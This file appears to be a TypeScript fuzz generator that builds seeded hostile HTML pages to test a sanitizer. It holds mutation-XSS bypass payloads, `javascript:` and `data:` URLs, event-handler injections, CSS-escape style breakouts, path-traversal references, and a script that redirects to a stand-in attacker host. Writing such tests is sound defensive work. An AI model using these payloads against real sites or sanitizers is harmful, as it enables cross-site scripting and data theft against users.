/**
 * Hostile page renderings, made from pieces known to trouble sanitizers: namespaces (svg, math,
 * foreignObject), comments and CDATA, the elements that switch the tokenizer to raw text or
 * RCDATA, CSS escapes of every length, `data:` URLs, entity forms with and without their
 * semicolon, unclosed tags, quote games in attributes, `javascript:` hidden behind controls and
 * entities, `//host` and `\\host`, srcset, image-set(), @import and style attributes. Each piece
 * is chosen and filled in by a seeded generator: the same seed is always the same page, so a
 * failing seed names its page for good.
 */

/** A page as pieces: dropping pieces (to find a smaller failing page) still leaves a page. */
export interface HostilePage {
  seed: number;
  head: string[];
  body: string[];
  /** Names of the kinds of pieces used that a test may want to pick pages by (`stable-breakout`). */
  notes: string[];
}

/** mulberry32: a small, fast PRNG whose whole state is one 32-bit number. */
export class Random {
  private state: number;
  readonly notes = new Set<string>();

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  /** A float in [0, 1). */
  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  int(n: number): number {
    return Math.floor(this.next() * n);
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)] as T;
  }
}

export const HOST = 'attacker.example';
const SCRIPT = `document.title='pwned';location.href='http://${HOST}/ran'`;

/** References as a page may write them, before any escaping: to the archive, out of it, or to script. */
export const URLS: readonly string[] = [
  `//${HOST}/share/x.png`,
  `\\\\${HOST}\\share\\x.png`,
  `/\\${HOST}/share/x.png`,
  `\\/${HOST}/share/x.png`,
  `http://${HOST}/x`,
  `https://service.example/static/a.png`,
  '/static/a.png',
  '/static/evil.svg',
  '/static/s.css',
  '/static/f.woff',
  'page2.html',
  'page1.html#top',
  '../../r6/pages/page1.html',
  '../../../../assets/5f1e.svg',
  '../../../../../outside.css',
  '%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/outside.css',
  '..%2f..%2f..%2f..%2f..%2foutside.css',
  'file:///etc/passwd',
  `file://${HOST}/share/x`,
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'data:image/png;base64,AAAA',
  `data:text/css,@import url(//${HOST}/d.css);`,
  `data:image/png,</style><img src=x onerror=alert(1)>`,
  '#top',
  'mailto:a@example.com',
  'tel:+1',
  '?q=1',
  '',
];

/** Ways to write `<` in CSS: hex escapes of every length and case, with and without the space that may end one. */
const CSS_LT = ['\\3c', '\\3C ', '\\03c', '\\003c ', '\\0003C', '\\00003c', '\\00003c ', '\\<'];
const CSS_GT = ['\\3e', '\\3E ', '\\00003e', '\\>', '>'];
const STYLE_NAMES = ['style', 'STYLE', 'Style', '\\73 tyle', 'st\\79le', '\\53 TYLE'];

/**
 * CSS source from parts: a space after a hex escape that would otherwise run on into the next
 * part's hex digit (or lose a space that follows it), as a writer of CSS must.
 */
function cssJoin(parts: readonly string[]): string {
  return parts
    .map((part, i) => {
      const next = parts[i + 1] ?? '';
      return /\\[0-9a-fA-F]{1,5}$/.test(part) && /^[0-9a-fA-F \t\n]/.test(next) ? `${part} ` : part;
    })
    .join('');
}

/** `<` and `>` of `markup` as CSS escapes of random forms; quotes, backslashes and newlines as hex escapes. */
function cssEscapeMarkup(r: Random, markup: string): string {
  return cssJoin(
    [...markup].map((c) => {
      if (c === '<') return r.pick(CSS_LT);
      if (c === '>') return r.pick(CSS_GT);
      if (c === '"' || c === "'" || c === '\\' || c === '\n') return `\\${c.charCodeAt(0).toString(16)} `;
      if (/[a-z]/i.test(c) && r.chance(0.05)) return `\\${c.charCodeAt(0).toString(16)}`;
      return c;
    }),
  );
}

/** An end tag of `<style>` as a CSS escape sequence, in one of its many spellings. */
function escapedStyleEnd(r: Random, name = r.pick(STYLE_NAMES)): string[] {
  return [r.pick(CSS_LT), '/', name, r.pick(CSS_GT)];
}

/**
 * Text as CSS source inside a string or url(): quotes, backslashes, newlines, spaces and
 * parentheses always as hex escapes, any other character as one at the rate given.
 */
function cssEncode(r: Random, text: string, rate: number): string {
  let out = '';
  const chars = [...text];
  chars.forEach((c, i) => {
    if (/["'\\\n ()]/.test(c) || r.chance(rate)) {
      const hex = (c.codePointAt(0) ?? 0).toString(16);
      const next = chars[i + 1];
      // A space ends the escape; it is needed before a hex digit or a space, and optional elsewhere.
      out += `\\${hex}${next === undefined || /[0-9a-fA-F \t\n]/.test(next) || r.chance(0.5) ? ' ' : ''}`;
    } else out += c;
  });
  return out;
}

const quote = (r: Random, encoded: string): string => {
  const q = r.chance(0.5) ? '"' : "'";
  return `${q}${encoded}${q}`;
};

/** A string token holding `text`. */
const cssString = (r: Random, text: string): string => quote(r, cssEncode(r, text, r.chance(0.3) ? 0.3 : 0));

/** A url() (or src()) of `url`, quoted or not, some of its characters escaped; or of CSS source already encoded. */
function urlFunction(r: Random, url: string, encoded = cssEncode(r, url, r.chance(0.3) ? 0.3 : 0)): string {
  const name = r.pick(['url', 'URL', 'u\\72l', '\\75 rl', 'src']);
  return r.chance(0.4) && name !== 'src' ? `${name}(${encoded})` : `${name}(${quote(r, encoded)})`;
}

/** A `data:` URL whose text ends the `<style>` it stands in, then `markup`, then opens a new one. */
function breakoutUrl(r: Random, markup: string): string {
  const type = r.pick(['image/png', 'image/svg+xml', 'font/woff', 'text/plain', '']);
  const open = r.chance(0.7) ? [r.pick(CSS_LT), r.pick(STYLE_NAMES), r.pick(CSS_GT)] : [];
  return cssJoin([`data:${type},`, ...escapedStyleEnd(r), cssEscapeMarkup(r, markup), ...open]);
}

/** References the sanitizer lets through as they are (no scheme), which only the rewriting may make safe. */
const PLAIN_URLS = [
  'page1.html',
  '../../r6/pages/page1.html',
  '../../../../assets/5f1e.svg',
  `//${HOST}/share/x`,
  '../../../../../outside.css',
  `\\\\${HOST}\\share\\x`,
];

/**
 * Markup written exactly as parse5 serializes it (lower case, double quotes, every end tag), so
 * that markup smuggled out of a `<style>` reads the same on every parse and is not replaced by
 * a notice for being unstable. Without quotes when it goes inside a CSS string.
 */
function serializedMarkup(r: Random, quotes: boolean): string {
  const u = r.pick(PLAIN_URLS);
  if (!quotes)
    return r.pick([`<style>@import url(${u});</style>`, `<style>.z{background:url(${u})}</style>`, `<b>text</b>`]);
  return r.pick([
    `<a href="${u}" style="position:fixed;top:0;left:0;width:100%;height:100%;display:block">x</a>`,
    `<img src="${u}">`,
    `<img srcset="${u} 2x">`,
    `<link rel="stylesheet" href="${u}">`,
    `<div style="background:url(${u})">d</div>`,
    `<svg><image href="${u}"></image></svg>`,
    `<video poster="${u}"></video>`,
    `<svg><a href="${u}"><text>t</text></a></svg>`,
  ]);
}

/**
 * A rule whose data: URL ends its `<style>` once decoded, followed by markup written to read the
 * same on every parse, and a `<style>` that takes in the rest: in the URL itself (escaped), or
 * after it as it is (CSS to the cleaning, markup once the element has ended).
 */
function stableBreakout(r: Random): string {
  r.notes.add('stable-breakout');
  const property = r.pick(['background', 'background-image', 'cursor', 'list-style-image', 'border-image-source']);
  const end = escapedStyleEnd(r, r.chance(0.8) ? 'style' : r.pick(STYLE_NAMES));
  const inside = r.chance(0.5);
  const smuggled = inside ? cssEscapeMarkup(r, `${serializedMarkup(r, false)}<style>`) : '';
  const url = cssJoin([`data:${r.pick(['image/png', 'image/svg+xml', 'font/woff'])},`, ...end, smuggled]);
  const rule = `.b{${property}:${urlFunction(r, url, url)}${property === 'cursor' ? ',auto' : ''}}`;
  return inside ? rule : `${rule}${serializedMarkup(r, true)}<style>`;
}

/** One CSS declaration that takes a URL. */
function declaration(r: Random, depth: number): string {
  const breakout = r.chance(0.35);
  const url = breakout ? breakoutUrl(r, markup(r, depth + 1)) : r.pick(URLS);
  // A breakout URL is CSS source already: its escapes are the point.
  const u = (): string => (breakout ? urlFunction(r, url, url) : urlFunction(r, url));
  const s = (): string => (breakout ? quote(r, url) : cssString(r, url));
  return r.pick([
    () => `background:${u()}`,
    () => `background-image:${u()}`,
    () => `cursor:${u()},auto`,
    () => `list-style:${u()}`,
    () => `mask:${u()}`,
    () => `border-image:${u()} 30`,
    () => `background:image-set(${s()} 1x)`,
    () => `background:-webkit-image-set(${u()} 1x, ${s()} 2x)`,
    () => `--u:${s()};background:image-set(var(--u) 1x)`,
    () => `background:\\69mage-set(${s()} 1x)`,
  ])();
}

/** CSS for a `<style>` element: rules, imports, escapes, and markup where CSS is not expected. */
function stylesheet(r: Random, depth: number): string {
  const parts: string[] = [];
  const count = 1 + r.int(3);
  for (let i = 0; i < count; i++) {
    parts.push(
      r.pick([
        () => `.x${i}{${declaration(r, depth)}}`,
        () => `@import ${r.chance(0.5) ? urlFunction(r, r.pick(URLS)) : cssString(r, r.pick(URLS))};`,
        () => `@\\69mport ${cssString(r, r.pick(URLS))};`,
        () => `@font-face{font-family:f;src:${urlFunction(r, r.pick(URLS))} format("woff")}`,
        // The breakout with the markup after it written as it is: CSS to the cleaning, markup once the element ended.
        () => {
          const url = cssJoin(['data:image/png,', ...escapedStyleEnd(r)]);
          return `.y{background:${urlFunction(r, url, url)}}${markup(r, depth + 1)}<style>`;
        },
        () => stableBreakout(r),
        () => stableBreakout(r),
        () => `/*${markup(r, depth + 1)}*/`,
        () => cssJoin([...escapedStyleEnd(r), markup(r, depth + 1)]),
        () => `a{content:"${r.pick(['</style>', '<\\/style>', '\\3c/style\\3e'])}"}`,
      ])(),
    );
  }
  return parts.join(r.pick(['', '\n', ' ']));
}

/** Entity forms of one character: named, decimal, hex, padded, without the semicolon. */
function entity(r: Random, c: string): string {
  const code = c.charCodeAt(0);
  const named: Record<string, string> = { '<': '&lt', '>': '&gt', ':': '&colon;', '\t': '&Tab;', '\n': '&NewLine;' };
  return r.pick([
    `&#${code};`,
    `&#x${code.toString(16)};`,
    `&#X${code.toString(16).toUpperCase()}`,
    `&#000${code};`,
    named[c] ?? `&#${code}`,
    `&#${code}`,
  ]);
}

/** A URL written as an attribute value: controls and spaces where browsers ignore them, some characters as entities. */
function attributeUrl(r: Random, url: string): string {
  let text = url;
  if (r.chance(0.2)) text = `${r.pick([' ', '\u0001', '\t', '\n '])}${text}`;
  if (r.chance(0.2) && text.includes(':')) {
    const at = 1 + r.int(Math.max(1, text.indexOf(':') - 1));
    text = `${text.slice(0, at)}${r.pick(['\t', '\n', '\r'])}${text.slice(at)}`;
  }
  const parts = [...text].map((c) => (r.chance(0.12) ? entity(r, c) : c === '&' ? '&amp;' : c));
  // A reference without its semicolon must not run into what follows (a digit, a hex digit, a letter).
  return parts
    .map((part, i) => {
      const next = parts[i + 1] ?? '';
      const runsOn =
        (/&#x[0-9a-f]+$/i.test(part) && /^[0-9a-f]/i.test(next)) ||
        (/&#[0-9]+$/.test(part) && /^[0-9]/.test(next)) ||
        (/&[a-z]+$/i.test(part) && /^[0-9a-z=]/i.test(next));
      return runsOn ? `${part};` : part;
    })
    .join('');
}

/** `name=value` in one of the ways a tokenizer accepts it. */
function attribute(r: Random, name: string, value: string): string {
  const n = r.chance(0.1) ? name.toUpperCase() : name;
  const form = r.int(5);
  if (form === 0 && /^[^\s"'=<>`]+$/.test(value)) return `${n}=${value}`;
  if (form === 1 && !value.includes("'")) return `${n}='${value}'`;
  if (form === 2) return `${n} = "${value.replace(/"/g, '&quot;')}"`;
  return `${n}="${value.replace(/"/g, '&quot;')}"`;
}

const attrUrl = (r: Random, name: string): string => attribute(r, name, attributeUrl(r, r.pick(URLS)));
const styleAttr = (r: Random, depth: number): string => {
  const css = declaration(r, depth + 1);
  return attribute(r, 'style', r.chance(0.3) ? css.replace(/</g, r.pick(['&lt;', '&#x3c;', '&#60', '&#60;'])) : css);
};

const handler = (r: Random): string =>
  attribute(r, r.pick(['onerror', 'onload', 'onclick', 'OnErRoR', 'onfocus', 'onbegin', 'ontoggle']), SCRIPT);

/** An element that refers to something or acts, in HTML, SVG or MathML. */
function element(r: Random, depth: number): string {
  return r.pick([
    () => `<a ${attrUrl(r, 'href')}>link</a>`,
    () => `<a ${attribute(r, 'href', '#ok')} ${attrUrl(r, 'href')}>twice</a>`,
    () => `<map name="m"><area ${attrUrl(r, 'href')}></map>`,
    () => `<img ${attrUrl(r, 'src')} ${r.chance(0.3) ? handler(r) : ''}>`,
    () => `<img ${attribute(r, 'srcset', `${attributeUrl(r, r.pick(URLS))} 1x, ${attributeUrl(r, r.pick(URLS))} 2x`)}>`,
    () => `<picture><source ${attribute(r, 'srcset', `${r.pick(URLS)},${r.pick(URLS)} 2x`)}><img src=x></picture>`,
    () => `<video ${attrUrl(r, 'poster')}></video>`,
    () => `<input type=image ${attrUrl(r, 'src')}>`,
    () =>
      `<link rel=${r.pick(['stylesheet', 'icon', 'preload', 'prefetch', 'import', 'modulepreload', 'alternate stylesheet', 'dns-prefetch'])} ${attrUrl(r, 'href')}>`,
    () => `<form ${attrUrl(r, 'action')}><button ${attrUrl(r, 'formaction')}>go</button></form>`,
    () => `<iframe ${attrUrl(r, 'src')}></iframe>`,
    () => `<iframe ${attribute(r, 'srcdoc', `<script>${SCRIPT}</script>`)}></iframe>`,
    () => `<object ${attrUrl(r, 'data')}></object><embed ${attrUrl(r, 'src')}>`,
    () => `<base ${attrUrl(r, 'href')}>`,
    () => `<meta http-equiv=refresh content="0;url=${attributeUrl(r, r.pick(URLS))}">`,
    () => `<svg><a ${attrUrl(r, r.pick(['href', 'xlink:href']))}><rect width=9 height=9 /></a></svg>`,
    () => `<svg><image ${attrUrl(r, r.pick(['href', 'xlink:href']))} /></svg>`,
    () => `<svg><use ${attrUrl(r, 'href')} /></svg>`,
    () => `<svg><filter id=f><feImage ${attrUrl(r, 'href')} /></filter></svg>`,
    () =>
      `<svg><rect ${attribute(r, r.pick(['fill', 'stroke', 'filter', 'mask', 'cursor']), urlFunction(r, r.pick(URLS)))} /></svg>`,
    () =>
      `<svg><a href=#ok><animate attributeName=href ${attrUrl(r, r.pick(['to', 'values', 'from']))} /><text>t</text></a></svg>`,
    () => `<svg><set attributeName=href ${attrUrl(r, 'to')} /></svg>`,
    () => `<math><mi ${attrUrl(r, r.pick(['href', 'xlink:href']))}>m</mi></math>`,
    () => `<table ${attrUrl(r, 'background')}><tr><td>t</td></tr></table>`,
    () => `<blockquote ${attrUrl(r, 'cite')}>q</blockquote>`,
    () => `<a ${attrUrl(r, 'href')} ${attrUrl(r, r.pick(['ping', 'attributionsrc']))}>p</a>`,
    () => `<script ${r.chance(0.5) ? attrUrl(r, 'src') : ''}>${SCRIPT}</script>`,
    () => `<svg><script ${attrUrl(r, 'href')}>${SCRIPT}</script></svg>`,
    () => `<svg ${handler(r)}><g ${handler(r)}></g></svg>`,
    () => `<details open ${handler(r)}>d</details>`,
    () => `<div ${styleAttr(r, depth)}>s</div>`,
    () => `<svg><rect ${styleAttr(r, depth)} /></svg>`,
    () => `<a title='"><img src=x onerror=${SCRIPT}>' ${attrUrl(r, 'href')}>q</a>`,
    () => `<a title=a"b ${attrUrl(r, 'href')}/>slash</a>`,
    () => `<a ${attrUrl(r, 'href')}`,
    () => `<img src=x${r.pick(['', ' onerror=alert(1)'])}`,
    () => `<style>${stylesheet(r, depth)}</style>`,
    () => `<svg><style>${stylesheet(r, depth)}</style></svg>`,
    () => `<math><style>${stylesheet(r, depth)}</style></math>`,
    () =>
      r.pick([
        '&lt;script&gt;alert(1)&lt;/script&gt;',
        '&#x3c;img src=x onerror=alert(1)&#x3e;',
        '&#60img src=x onerror=alert(1)&#62',
        '&ltscript&gtx',
      ]),
  ])();
}

/** Known mutation XSS shapes (DOMPurify's and others' past bypasses). */
const MUTATIONS = [
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>`,
  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></path></textarea></mtext></svg></mglyph></mi></math>`,
  `<svg><foreignObject><style></style></foreignObject><style><img src=x onerror=alert(1)></style></svg>`,
  `<![CDATA[><img src=x onerror=alert(1)>]]>`,
  `<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!-- --!><img src=x onerror=alert(1)> -->`,
  `<template><style></template><img src=x onerror=alert(1)></style></template>`,
  `<select><template><style></style></template><img src=x onerror=alert(1)></select>`,
  `<textarea></textarea><style></textarea><img src=x onerror=alert(1)></style>`,
];

/** Elements that wrap what is inside them in another parsing mode. */
const WRAPPERS: readonly [string, string][] = [
  ['<svg>', '</svg>'],
  ['<math>', '</math>'],
  ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<svg><desc>', '</desc></svg>'],
  ['<svg><title>', '</title></svg>'],
  ['<template>', '</template>'],
  ['<template shadowrootmode="open">', '</template>'],
  ['<div><template shadowrootmode="open">', '</template></div>'],
  ['<textarea>', '</textarea>'],
  ['<title>', '</title>'],
  ['<noscript>', '</noscript>'],
  ['<noembed>', '</noembed>'],
  ['<noframes>', '</noframes>'],
  ['<xmp>', '</xmp>'],
  ['<iframe>', '</iframe>'],
  ['<select>', '</select>'],
  ['<table>', '</table>'],
  ['<!--', '-->'],
  ['<svg><![CDATA[', ']]></svg>'],
  ['<style>', '</style>'],
  ['<svg><style>', '</style></svg>'],
  ['<p>', ''],
  ['<svg>', ''],
  ['<math>', ''],
];

const CLOSERS = [
  '</style>',
  '</svg>',
  '</math>',
  '</textarea>',
  '</title>',
  '</noscript>',
  '</template>',
  '-->',
  ']]>',
  '</p>',
  '</form>',
  '</table>',
  '</select>',
];

/** One piece of markup, possibly wrapping others. */
function markup(r: Random, depth: number): string {
  if (depth >= 3) return r.chance(0.5) ? element(r, depth) : 'text';
  const kind = r.int(10);
  if (kind < 5) return element(r, depth);
  if (kind < 7) {
    const [open, close] = r.pick(WRAPPERS);
    return `${open}${markup(r, depth + 1)}${r.chance(0.85) ? close : ''}`;
  }
  if (kind < 8) return r.pick(MUTATIONS);
  if (kind < 9) return r.pick(CLOSERS);
  return `${markup(r, depth + 1)}${markup(r, depth + 1)}`;
}

/** The page of one seed. */
export function hostilePage(seed: number): HostilePage {
  const r = new Random(seed);
  const head: string[] = [];
  const body: string[] = [];
  const headCount = r.int(3);
  for (let i = 0; i < headCount; i++) head.push(r.chance(0.6) ? `<style>${stylesheet(r, 1)}</style>` : element(r, 1));
  const bodyCount = 1 + r.int(5);
  for (let i = 0; i < bodyCount; i++) body.push(markup(r, 0));
  return { seed, head, body, notes: [...r.notes].sort() };
}

/**
 * A page of `<style>` elements only, in the head or the body: where the cleaning of CSS is got
 * around. For samples too small to find that among everything else (a browser's, say).
 */
export function hostileStylePage(seed: number): HostilePage {
  // Not the seeds of hostilePage: the same number makes another page.
  const r = new Random(seed ^ 0x51e5);
  const head: string[] = [];
  const body: string[] = [];
  const count = 1 + r.int(2);
  for (let i = 0; i < count; i++) (r.chance(0.3) ? head : body).push(`<style>${stylesheet(r, 1)}</style>`);
  return { seed, head, body, notes: [...r.notes].sort() };
}

/** The page's HTML: its pieces in a document with a title, as the service would send it. */
export function pageHtml(page: Pick<HostilePage, 'head' | 'body'>): string {
  return `<!DOCTYPE html><html><head><title>hostile page</title>${page.head.join('')}</head><body>${page.body.join('')}</body></html>`;
}
